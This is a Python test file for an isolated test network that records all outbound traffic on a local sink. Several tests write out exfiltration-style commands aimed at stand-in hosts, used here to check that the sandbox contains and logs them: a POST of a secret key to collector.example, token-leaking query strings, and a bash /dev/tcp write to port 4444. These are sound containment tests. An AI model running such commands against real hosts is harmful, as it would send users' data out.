"""The world network: inside it every name resolves, every address and port answers and everything is recorded, and
nothing leaves.  Every command that sends anywhere runs through `net.wrap(...)`; the host side of these tests only
ever connects to its own 127.0.0.1 (the bridge's far end).

No test waits for luck: a request that got its answer is already recorded (the sink writes first), and what gets no
answer (raw TCP, UDP) is waited for with `wait_for`.  Without a way to make namespaces (no root, no user namespaces,
no nftables) the tests skip, and fail in CI, where `.ci/run` installs nftables."""

from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from world_network_skip import skip_without_world_network
from pytest_controlplane.network import Egress, NetworkUnavailable, WorldNetwork, serve_unix_to_tcp
from pytest_controlplane.network import world as world_module
from pytest_controlplane.network.egress import read_log
from pytest_controlplane.network.namespace import pids_in, tool

CURL = "/usr/bin/curl"
SECRET_NAME = "k-SECRET.collector.example"


def open_world(directory: Path, **options: object) -> WorldNetwork:
    net = WorldNetwork(directory, **options)
    try:
        net.start()
    except NetworkUnavailable as error:
        skip_without_world_network(str(error))
    return net


@pytest.fixture
def net(tmp_path: Path) -> Iterator[WorldNetwork]:
    world = open_world(tmp_path / "net")
    yield world
    world.close()


def inside(net: WorldNetwork, *argv: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    # Without the host's proxy settings: a proxy inside the world is the sink too, but its CONNECT records would
    # stand between these tests and the records they count.
    env = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")}
    result = subprocess.run(net.wrap(list(argv)), env={**env, **net.env()}, capture_output=True, text=True, timeout=30)
    if check:
        assert result.returncode == 0, result.stderr
    return result


def python_inside(net: WorldNetwork, code: str) -> str:
    return inside(net, sys.executable, "-c", code).stdout


def one(events: list[Egress], **fields: object) -> Egress:
    found = [e for e in events if all(getattr(e, k) == v for k, v in fields.items())]
    assert len(found) == 1, (fields, events)
    return found[0]


def test_public_and_private_addresses_land_on_the_sink_with_what_was_sent(net):
    out = python_inside(
        net,
        r"""
import socket, ssl
with socket.create_connection(("203.0.113.7", 8080), timeout=10) as s:
    s.sendall(b"POST /collect?id=7 HTTP/1.1\r\nHost: collector.example\r\nContent-Length: 11\r\n\r\ncanary-body")
    print(s.recv(4096).split(b"\r\n")[0].decode())
context = ssl.create_default_context()  # trusts the world CA through SSL_CERT_FILE
with socket.create_connection(("10.1.2.3", 443), timeout=10) as raw:
    s = context.wrap_socket(raw, server_hostname="10.1.2.3")
    s.sendall(b"PUT /private HTTP/1.1\r\nHost: 10.1.2.3\r\nContent-Length: 4\r\n\r\nbody")
    print(s.recv(4096).split(b"\r\n")[0].decode())
""",
    )
    assert out.split() == ["HTTP/1.1", "200", "OK"] * 2
    events = net.events()
    public = one(events, kind="http", address="203.0.113.7")
    assert (public.port, public.host, public.method) == (8080, "collector.example", "POST")
    assert public.path == "/collect?id=7"
    assert public.body == "canary-body" and public.header("content-length") == "11"
    private = one(events, kind="https", address="10.1.2.3")
    assert (private.port, private.host, private.path, private.body) == (443, "10.1.2.3", "/private", "body")
    assert len(events) == 2


def test_every_name_resolves_to_the_sink_and_each_query_is_recorded(net):
    assert python_inside(net, f"import socket; print(socket.gethostbyname({SECRET_NAME!r}))").strip() == "198.18.0.1"
    assert [(e.kind, e.host, e.method) for e in net.events()] == [("dns", SECRET_NAME, "A")]
    assert inside(net, "getent", "hosts", SECRET_NAME).stdout.split() == ["198.18.0.1", SECRET_NAME]
    by_getent = net.events()[1:]
    assert by_getent and {(e.kind, e.host) for e in by_getent} == {("dns", SECRET_NAME)}
    assert {e.address for e in net.events()} == {"127.0.0.1"}  # the resolv.conf inside names the sink


@pytest.mark.skipif(not os.path.exists(CURL), reason="curl is not installed")
def test_curl_resolves_and_trusts_the_world_without_being_told(net):
    result = inside(net, CURL, "-sS", f"https://curl-{SECRET_NAME}/q?token=abc&x=1")  # CURL_CA_BUNDLE: no --cacert
    assert result.stdout == "ok\n"
    events = net.events()
    name = f"curl-{SECRET_NAME}".lower()  # curl asks for the name in lower case
    assert ("dns", name) in {(e.kind, e.host.lower()) for e in events}
    request = one(events, kind="https")
    assert (request.host, request.method, request.path, request.port) == (
        name,
        "GET",
        "/q?token=abc&x=1",
        443,
    )
    assert request.address == "198.18.0.1" and request.header("user-agent").startswith("curl/")


def _host_resolver() -> str:
    for line in Path("/etc/resolv.conf").read_text().splitlines():
        parts = line.split()
        if parts[:1] == ["nameserver"] and len(parts) > 1 and not parts[1].startswith("127."):
            return parts[1]
    return "10.255.255.53"  # a stand-in for a private resolver when the host names none


def test_the_host_resolver_is_unreachable_by_construction(tmp_path):
    host_resolv = Path("/etc/resolv.conf").read_bytes()
    resolver = _host_resolver()
    net = open_world(tmp_path / "net")
    try:
        assert inside(net, "cat", "/etc/resolv.conf").stdout.startswith("nameserver 127.0.0.1\n")
        links = inside(net, "ip", "-o", "link").stdout.splitlines()
        assert len(links) == 1 and ": lo:" in links[0]
        addresses = inside(net, "ip", "-o", "addr").stdout.splitlines()
        assert addresses and all(line.split()[1] == "lo" for line in addresses)
        routes = inside(net, "ip", "route", "show", "table", "all").stdout.splitlines()
        assert routes and all(" dev lo " in f"{line} " for line in routes), routes
        # A query sent straight to the host's resolver address (as a client ignoring resolv.conf would) is
        # answered by the sink and recorded with that address; so is a datagram there that is not DNS.
        out = python_inside(
            net,
            f"""
import socket, struct
query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\\x06direct\\x07example\\x00" + struct.pack("!HH", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(10)
    s.connect(({resolver!r}, 53))
    s.send(query)
    print(socket.inet_ntoa(s.recv(512)[-4:]))
    s.send(b"not a dns message")
""",
        )
        assert out.strip() == "198.18.0.1"
        assert one(net.events(), kind="dns", host="direct.example").address == resolver
        garbage = net.wait_for(lambda e: e.kind == "udp")
        assert [(e.address, e.port, e.body) for e in garbage] == [(resolver, 53, "not a dns message")]
    finally:
        net.close()
    assert Path("/etc/resolv.conf").read_bytes() == host_resolv
    assert str(tmp_path) not in Path("/proc/self/mountinfo").read_text()  # the bind mounts stayed inside


def test_https_post_and_a_query_string_are_recorded_with_body_and_path(net):
    out = python_inside(
        net,
        """
import urllib.request
request = urllib.request.Request("https://api.collector.example/v1/upload", data=b'{"key": "s3cr3t"}',
                                 headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(request, timeout=10).read().decode())
""",
    )
    assert out == "ok\n\n"
    post = one(net.events(), kind="https")
    assert (post.host, post.method, post.path, post.body) == (
        "api.collector.example",
        "POST",
        "/v1/upload",
        '{"key": "s3cr3t"}',
    )
    assert post.url == "https://api.collector.example:443/v1/upload" and "s3cr3t" in post.text()
    if os.path.exists(CURL):
        inside(net, CURL, "-sS", "https://api.collector.example/v1/ping?session=42&leak=yes")
        get = one(net.events(), kind="https", method="GET")
        assert (get.host, get.path) == ("api.collector.example", "/v1/ping?session=42&leak=yes")


def test_raw_tcp_and_udp_are_recorded_with_their_bytes(net):
    inside(net, "bash", "-c", "echo hi > /dev/tcp/203.0.113.9/4444")
    (raw,) = net.wait_for(lambda e: e.kind == "tcp")  # no answer to wait for: recorded at the client's EOF
    assert (raw.address, raw.port, raw.body, raw.bytes_out) == ("203.0.113.9", 4444, "hi\n", 3)
    python_inside(
        net,
        """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"datagram \\xff", ("203.0.113.9", 5000))
with socket.create_connection(("2001:db8::1", 80), timeout=10) as s:  # IPv6 literals land on the sink too
    s.sendall(b"GET /six HTTP/1.1\\r\\nHost: six.example\\r\\n\\r\\n")
    s.recv(4096)
""",
    )
    (datagram,) = net.wait_for(lambda e: e.kind == "udp")
    assert (datagram.address, datagram.port, datagram.body) == ("203.0.113.9", 5000, "datagram \\xff")
    six = one(net.events(), kind="http")
    assert (six.address, six.port, six.host, six.path) == ("2001:db8::1", 80, "six.example", "/six")


def test_a_proxy_client_is_tunnelled_and_an_untrusting_one_still_recorded(net):
    python_inside(
        net,
        """
import http.client, socket, ssl
connection = http.client.HTTPSConnection("198.18.0.1", 3128, context=ssl.create_default_context(), timeout=10)
connection.set_tunnel("tunnel.example", 8443)
connection.request("POST", "/through?proxy=1", body=b"tunnelled")
print(connection.getresponse().read())
try:  # a client with its own trust store: the handshake fails, the name it asked for is recorded
    with socket.create_connection(("203.0.113.5", 443), timeout=10) as raw:
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(raw, server_hostname="pinned.example")
except ssl.SSLError:
    pass
""",
    )
    events = net.events()
    connect = one(events, method="CONNECT")
    assert (connect.kind, connect.host, connect.port) == ("http", "tunnel.example", 8443)
    assert connect.path == "tunnel.example:8443"
    tunnelled = one(events, kind="https", method="POST")
    assert (tunnelled.host, tunnelled.port, tunnelled.path, tunnelled.body) == (
        "tunnel.example",
        8443,
        "/through?proxy=1",
        "tunnelled",
    )
    assert tunnelled.via == connect.via == "proxy 198.18.0.1:3128"
    refused = net.wait_for(lambda e: e.error is not None)
    assert [(e.kind, e.host, e.address) for e in refused] == [("https", "pinned.example", "203.0.113.5")]


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f"host gateway saw {self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def test_a_bridge_reaches_the_hosts_loopback_server_and_is_not_recorded(tmp_path):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    deep = tmp_path / ("a-directory-name-long-enough-to-push-the-socket-path-past-sun-path-" * 2)
    deep.mkdir()
    socket_path = deep / "gateway.sock"  # longer than a unix socket path may be: the bridge copes
    try:
        with serve_unix_to_tcp(socket_path, "127.0.0.1", server.server_address[1]):
            net = open_world(tmp_path / "net", bridges={8123: socket_path})
            try:
                out = python_inside(
                    net,
                    """
import urllib.request
print(urllib.request.urlopen("http://127.0.0.1:8123/v1/messages", timeout=10).read().decode())
print(urllib.request.urlopen("http://localhost:8123/again", timeout=10).read().decode())
import socket; socket.gethostbyname("marker.example")
""",
                )
                assert out.splitlines() == ["host gateway saw /v1/messages", "host gateway saw /again"]
                # The marker's query was recorded before it was answered, after both bridged requests: they would be
                # in the log by now if they were recorded at all.
                assert [(e.kind, e.host) for e in net.events()] == [("dns", "marker.example")]
            finally:
                net.close()
    finally:
        server.shutdown()
        server.server_close()
    assert not socket_path.exists()
    with pytest.raises(ValueError, match="loopback"):
        serve_unix_to_tcp(tmp_path / "x.sock", "10.1.2.3", 80)


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"


def test_closing_the_world_leaves_no_process_behind(tmp_path):
    net = open_world(tmp_path / "net")
    holder = net.processes()
    child = subprocess.Popen(
        net.wrap(["sh", "-c", "sleep 1000 & echo $!; setsid sleep 1001 </dev/null >/dev/null 2>&1 & echo $!; wait"]),
        stdout=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    sleepers = [int(child.stdout.readline()), int(child.stdout.readline())]
    net_id = net.net_id
    inside_now = set(net.processes())
    assert {child.pid, *sleepers} <= inside_now and set(holder) <= inside_now
    net.close()
    assert child.wait(timeout=10) == -9
    assert pids_in(net_id) == []
    assert not any(_alive(pid) for pid in [*sleepers, *holder])
    with pytest.raises(RuntimeError, match="not open"):
        net.wrap(["true"])


def test_the_wrapper_refuses_to_run_outside_the_world(net, tmp_path):
    marker = tmp_path / "ran"
    argv = net.wrap(["touch", str(marker)])
    elsewhere = [("net:[1]" if part == net.net_id else part) for part in argv]
    refused = subprocess.run(elsewhere, capture_output=True, text=True, timeout=30)
    assert refused.returncode == 125 and "refusing to run outside the world" in refused.stderr
    assert not marker.exists()
    net.close()
    assert subprocess.run(argv, capture_output=True, timeout=30).returncode != 0  # the world is gone
    assert not marker.exists()


def test_the_oracle_stays_quiet_when_nothing_is_sent(net, tmp_path):
    inside(net, sys.executable, "-c", "import socket; socket.gethostname()")
    assert inside(net, "getent", "hosts", "localhost").stdout.split()[0] in ("127.0.0.1", "::1")  # /etc/hosts
    assert inside(net, "pwd").stdout.strip() == os.getcwd()  # the caller's directory
    assert net.events() == []
    assert not net.log_file.exists() or net.log_file.read_bytes() == b""


def test_a_namespace_that_cannot_be_confined_says_why_and_leaves_nothing(tmp_path, monkeypatch):
    open_world(tmp_path / "probe").close()  # namespaces work here (else this skips, or fails in CI)
    real_tool = world_module.tool
    monkeypatch.setattr(world_module, "tool", lambda name: shutil.which("false") if name == "nft" else real_tool(name))
    directory = tmp_path / "broken"
    net = WorldNetwork(directory)
    with pytest.raises(NetworkUnavailable, match=r"World network unavailable: `\S*false -f -` failed"):
        net.start()
    assert not net.running
    holders = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _cmdline_has(p, str(directory))]
    assert holders == []


def _cmdline_has(process: Path, text: str) -> bool:
    try:
        return text.encode() in (process / "cmdline").read_bytes()
    except OSError:
        return False


def test_an_unusable_host_says_why_and_how_to_fix_it(tmp_path):
    with pytest.raises(NetworkUnavailable, match="`no-such-network-tool` is not installed") as raised:
        tool("no-such-network-tool")
    assert "apt-get install" in raised.value.hint
    log = tmp_path / "egress.jsonl"
    log.write_text('{"kind": "dns", "host": "a.example", "address": "127.0.0.1", "port": 53}\n{"kind": "tc')
    assert [e.host for e in read_log(log)] == ["a.example"]  # a line still being written is left for later
